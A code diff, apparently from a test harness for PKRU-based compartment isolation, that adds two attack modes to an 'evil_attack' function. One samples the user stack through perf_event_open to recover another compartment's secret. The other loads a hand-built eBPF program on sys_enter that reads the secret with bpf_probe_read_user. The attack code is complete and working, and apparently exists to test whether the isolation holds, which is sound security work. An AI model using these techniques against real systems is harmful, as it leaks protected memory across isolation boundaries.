@@ -14,6 +14,9 @@
 #include <stdlib.h>
 #include <string.h>
 #include <asm/prctl.h>
+#include <linux/bpf.h>
+#include <linux/perf_event.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/personality.h>
 #include <sys/prctl.h>
@@ -131,6 +134,127 @@ static long control(void)
 	if (step)
 		printf("control: %s: %s\n", step, strerror(errno));
 	return !step;
+}
+
+/*
+ * Samples this thread's user stack (perf_event_open, the CPU clock, every
+ * 100 us of user time) while it runs in 'app' (app_busy), then looks for
+ * what app keeps on its stack there. The kernel copies the stack in its
+ * timer interrupt, under the PKRU of whatever compartment the thread runs
+ * in. 1 when the samples hold it; 0 with errno set when refused.
+ */
+static long perf_stack(long secret)
+{
+	long page = sysconf(_SC_PAGESIZE);
+	struct perf_event_attr a = {
+	    .size = sizeof(a),
+	    .type = PERF_TYPE_SOFTWARE,
+	    .config = PERF_COUNT_SW_CPU_CLOCK,
+	    .sample_period = 100000,
+	    .sample_type = PERF_SAMPLE_STACK_USER,
+	    .sample_stack_user = 4096,
+	    .disabled = 1,
+	    .exclude_kernel = 1,
+	    .exclude_hv = 1,
+	};
+	int fd = (int)syscall(SYS_perf_event_open, &a, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	size_t len = 65 * (size_t)page;
+	unsigned char *ring = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	if (ring == MAP_FAILED || ioctl(fd, PERF_EVENT_IOC_ENABLE, 0))
+		return 0;
+	app_busy();
+	ioctl(fd, PERF_EVENT_IOC_DISABLE, 0);
+	/* Made only now, so that no sample of this compartment's own stack holds it. */
+	long needle = app_stack_value(secret);
+	long found = 0;
+	for (size_t i = (size_t)page; i + sizeof(needle) <= len && !found; i++)
+		found = !memcmp(ring + i, &needle, sizeof(needle));
+	munmap(ring, len);
+	close(fd);
+	if (!found)
+		errno = ENOENT;
+	return found;
+}
+
+/* One eBPF instruction (linux/bpf.h has the encoding, not the kernel's macros). */
+#define INSN(c, d, s, o, i) \
+	((struct bpf_insn){.code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i)})
+#define LD_IMM64(d, s, v)                                                 \
+	INSN(BPF_LD | BPF_DW | BPF_IMM, d, s, 0, (int32_t)(uint64_t)(v)), \
+	    INSN(0, 0, 0, 0, (int32_t)((uint64_t)(v) >> 32))
+
+static long bpf_call(int cmd, union bpf_attr *attr)
+{
+	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
+}
+
+/*
+ * A BPF program on every system call's entry (the raw tracepoint
+ * sys_enter) that reads the application's secret at target with
+ * bpf_probe_read_user and keeps it in a map when the read succeeds: it
+ * runs in the calling thread, under that thread's PKRU, so it succeeds
+ * when 'app' makes a call (app_busy). 1 when the map then holds the
+ * secret; 0 with errno set when refused.
+ */
+static long bpf_probe(uintptr_t target, long secret)
+{
+	union bpf_attr map = {
+	    .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1};
+	int mfd = (int)bpf_call(BPF_MAP_CREATE, &map);
+	if (mfd < 0)
+		return 0;
+	const struct bpf_insn prog[] = {
+	    INSN(BPF_ALU64 | BPF_MOV | BPF_X, 1, 10, 0, 0), /* r1 = fp - 8: where to read to */
+	    INSN(BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -8),
+	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, 8), /* r2 = 8 bytes */
+	    LD_IMM64(3, 0, target),                        /* r3 = the secret's address */
+	    INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_user),
+	    INSN(BPF_JMP | BPF_JNE | BPF_K, 0, 0, 9, 0),   /* refused (another PKRU): done */
+	    INSN(BPF_ST | BPF_MEM | BPF_W, 10, 0, -16, 0), /* key 0 at fp - 16 */
+	    LD_IMM64(1, BPF_PSEUDO_MAP_FD, mfd),
+	    INSN(BPF_ALU64 | BPF_MOV | BPF_X, 2, 10, 0, 0),
+	    INSN(BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -16),
+	    INSN(BPF_ALU64 | BPF_MOV | BPF_X, 3, 10, 0, 0),
+	    INSN(BPF_ALU64 | BPF_ADD | BPF_K, 3, 0, 0, -8),
+	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, 4, 0, 0, BPF_ANY),
+	    INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_map_update_elem),
+	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 0),
+	    INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
+	};
+	static char log[16384];
+	union bpf_attr load = {.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT,
+			       .insn_cnt = sizeof(prog) / sizeof(prog[0]),
+			       .insns = (uintptr_t)prog,
+			       .license = (uintptr_t) "GPL",
+			       .log_level = 1,
+			       .log_size = sizeof(log),
+			       .log_buf = (uintptr_t)log};
+	int pfd = (int)bpf_call(BPF_PROG_LOAD, &load);
+	if (pfd < 0) {
+		int err = errno;
+		printf("bpf: the program was refused: %s\n%s\n", strerror(err), log);
+		errno = err;
+		return 0;
+	}
+	union bpf_attr attach = {
+	    .raw_tracepoint = {.name = (uintptr_t) "sys_enter", .prog_fd = (uint32_t)pfd}};
+	int tfd = (int)bpf_call(BPF_RAW_TRACEPOINT_OPEN, &attach);
+	if (tfd < 0)
+		return 0;
+	app_busy();
+	close(tfd);
+	uint32_t key = 0;
+	long v = 0;
+	union bpf_attr look = {
+	    .map_fd = (uint32_t)mfd, .key = (uintptr_t)&key, .value = (uintptr_t)&v};
+	long found = !bpf_call(BPF_MAP_LOOKUP_ELEM, &look) && v == secret;
+	close(pfd);
+	close(mfd);
+	if (!found)
+		errno = ENOENT;
+	return found;
 }
 
 static void *relay(void *arg)
@@ -278,6 +402,10 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 			r = syscall(SYS_arch_prctl, ARCH_SET_FS, fs);
 		break;
 	}
+	case 30:
+		return perf_stack(secret);
+	case 31:
+		return bpf_probe(target, secret);
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
